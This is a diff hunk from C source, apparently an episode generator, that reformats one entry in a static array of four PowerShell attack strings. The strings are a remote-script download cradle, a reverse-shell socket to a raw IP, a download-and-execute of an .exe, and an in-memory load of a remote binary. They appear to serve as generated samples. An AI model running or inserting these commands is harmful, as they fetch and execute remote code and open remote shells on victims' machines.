@@ -764,8 +764,8 @@ vg_err gen_episodes_init(vg_gen *g)
     static const char *const payloads[4] = {
         "IEX (New-Object Net.WebClient).DownloadString('http://update-check.duckdns.org/a.ps1')",
         "$c=New-Object System.Net.Sockets.TCPClient('91.215.85.142',8443);$s=$c.GetStream()",
-        "Invoke-WebRequest -Uri http://update-check.duckdns.org/s.exe -OutFile $env:TEMP\\s.exe; "
-        "Start-Process $env:TEMP\\s.exe",
+        ("Invoke-WebRequest -Uri http://update-check.duckdns.org/s.exe -OutFile $env:TEMP\\s.exe; "
+         "Start-Process $env:TEMP\\s.exe"),
         "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('https://cdn-static-files.top/l.bin'))",
     };
     for (int i = 0; i < 4; i++) {
